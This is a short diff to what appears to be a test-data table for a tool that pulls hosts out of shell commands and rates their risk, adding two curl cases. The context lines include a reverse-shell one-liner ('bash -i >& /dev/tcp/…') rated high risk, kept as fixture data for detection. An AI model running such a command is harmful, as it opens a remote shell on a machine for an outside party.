@@ -42,6 +42,8 @@ SHELL: list[tuple[FactKind, str, dict[str, Risk]]] = [
     (FactKind.HOST, "# curl https://vendor.dev", {}),
     (FactKind.HOST, "wget -O function.zip https://vendor.dev/f", {"vendor.dev": Risk.LOW}),
     (FactKind.HOST, "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", {"45.33.32.156": Risk.HIGH}),
+    (FactKind.HOST, "curl https://9.9.9.9/i http://10.0.0.1/i http://224.0.0.1/i", {"9.9.9.9": Risk.HIGH}),
+    (FactKind.HOST, "curl https://9proxy.vendor.dev/i", {"9proxy.vendor.dev": Risk.LOW}),
     (FactKind.HOST, "exec 3<>/dev/tcp/api.vendor.dev/80", {"api.vendor.dev": Risk.MEDIUM}),
     (
         FactKind.HOST,
